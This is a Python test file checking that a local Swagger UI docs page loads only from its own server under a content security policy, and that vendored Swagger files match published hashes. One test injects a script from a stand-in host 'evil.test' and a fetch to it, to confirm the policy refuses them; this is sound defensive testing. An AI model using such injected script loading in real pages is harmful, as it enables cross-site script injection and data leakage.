"""`/docs`: a page with the owner's rights, from this computer alone. In Chromium where it is
installed."""

from __future__ import annotations

import hashlib
import re
import zipfile
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urljoin

import httpx
import pytest
from hatchling.builders.wheel import WheelBuilder

from lobug.app import create_app
from lobug.http.browser import DOCS_FOLDER, DOCS_POLICY
from support.app_server import client_of, scripted_assembler, settings_for
from support.browser import running_chromium
from support.memory_app import quiet_engines
from support.simulated_address import remote_headers, with_simulated_addresses

ROOT = Path(__file__).parents[2]
SWAGGER_UI = DOCS_FOLDER / "assets" / "swagger-ui"


@asynccontextmanager
async def served(folder: Path) -> AsyncIterator[httpx.AsyncClient]:
    app = create_app(settings_for(folder), assembler=scripted_assembler(quiet_engines()))
    async with client_of(with_simulated_addresses(app)) as http:
        yield http


class Links(HTMLParser):
    """The addresses in a page, and the scripts and styles that are written into it."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.places: list[str] = []
        self.inline: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = dict(attrs)
        self.places += [v for k, v in attrs if k in {"src", "href"} and v and v != "data:,"]
        if tag == "style" or (tag == "script" and "src" not in named):
            self.inline.append(tag)
        self.inline += [name for name in named if name == "style" or name.startswith("on")]


async def test_all_of_the_page_comes_from_the_server(tmp_path: Path) -> None:
    async with served(tmp_path) as http:
        page = await http.get("/docs")
        assert page.headers["content-type"].startswith("text/html")
        assert page.headers["content-security-policy"] == DOCS_POLICY
        links = Links(page.text)
        assert links.inline == []
        assert len(links.places) >= 4
        for place in links.places:
            url = urljoin(str(page.url), place)
            assert url.startswith(str(http.base_url)), place
            assert (await http.get(url)).status_code == 200, place
            assert (await http.get(url, headers=remote_headers())).status_code == 401, place
        assert (await http.get("/docs", headers=remote_headers())).status_code == 401
        for gone in ("/redoc", "/docs/oauth2-redirect", "/docs/assets/../page.html"):
            assert (await http.get(gone)).status_code == 404


@pytest.mark.parametrize("query", ["", "?url=http://127.0.0.1:9/x&configUrl=http://127.0.0.1:9/y"])
async def test_the_page_works_under_its_policy(tmp_path: Path, query: str) -> None:
    async with served(tmp_path) as http, running_chromium(tmp_path) as browser:
        page = await browser.open_page()
        await page.go(f"{http.base_url}/docs{query}")
        await page.until("document.querySelectorAll('.opblock').length > 30")
        operation = "#operations-chat-chat_text_chat_text_post"
        await page.click(f"{operation} .opblock-control-arrow")
        await page.click(f"{operation} .try-out__btn")
        await page.click(f"{operation} button.execute")
        shown = f"document.querySelector('{operation} .live-responses-table')"
        await page.until(shown)
        answer = await page.evaluate(f"{shown}.textContent")
        assert "Okay." in answer
        await page.click(".models .json-schema-2020-12-accordion")
        await page.until("document.querySelector('.models .json-schema-2020-12-body')")
        picture = await page.screenshot()
        (tmp_path / "docs.png").write_bytes(picture)
        assert len(picture) > 20_000, "an empty page is smaller"
        elsewhere = [
            url for url in page.requests
            if not url.startswith((str(http.base_url), "data:", "blob:"))
        ]  # fmt: skip
        assert elsewhere == []
        assert page.complaints == []


async def test_the_policy_stops_what_does_not_belong_to_the_page(tmp_path: Path) -> None:
    """And a violation is seen by these tests."""
    async with served(tmp_path) as http, running_chromium(tmp_path) as browser:
        page = await browser.open_page()
        await page.go(f"{http.base_url}/docs")
        tried = """new Promise(done => {
            const inline = document.createElement('script')
            inline.textContent = 'window.written = true'
            const foreign = document.createElement('script')
            foreign.src = 'http://evil.test:9/script.js'
            foreign.onerror = () => fetch('http://evil.test:9/').then(
                () => done('sent'), () => done(window.written ? 'written' : 'refused'))
            document.body.append(inline, foreign)
        })"""
        assert await page.evaluate(tried) == "refused"
        told = "\n".join(page.complaints)
        assert "script-src" in told
        assert "connect-src" in told


# ---- the files


def test_the_files_of_others_are_as_they_were_published() -> None:
    lines = (SWAGGER_UI / "SHA256SUMS").read_text(encoding="utf-8").splitlines()
    recorded = {name: digest for digest, name in (line.split("  ", 1) for line in lines)}
    assert set(recorded) == {p.name for p in SWAGGER_UI.iterdir()} - {"SHA256SUMS", "README.md"}
    for name, digest in recorded.items():
        assert hashlib.sha256((SWAGGER_UI / name).read_bytes()).hexdigest() == digest, name


def test_their_version_and_licence_are_named() -> None:
    said = (SWAGGER_UI / "README.md").read_text(encoding="utf-8")
    version = re.search(r"swagger-ui-dist (\d+\.\d+\.\d+)", said)
    assert version is not None
    assert version[0] in (ROOT / "NOTICE").read_text(encoding="utf-8")
    bundle = (SWAGGER_UI / "swagger-ui-bundle.js").read_text(encoding="utf-8")
    assert f'"{version[1]}"' in bundle


def test_they_are_in_the_wheel(tmp_path: Path) -> None:
    (wheel,) = WheelBuilder(str(ROOT)).build(directory=str(tmp_path), versions=["standard"])
    with zipfile.ZipFile(wheel) as archive:
        inside = set(archive.namelist())
    shipped = {path for path in DOCS_FOLDER.rglob("*") if path.is_file()}
    assert len(shipped) >= 8
    assert {path.relative_to(ROOT / "server").as_posix() for path in shipped} <= inside
    assert "lobug/models/catalog.toml" in inside
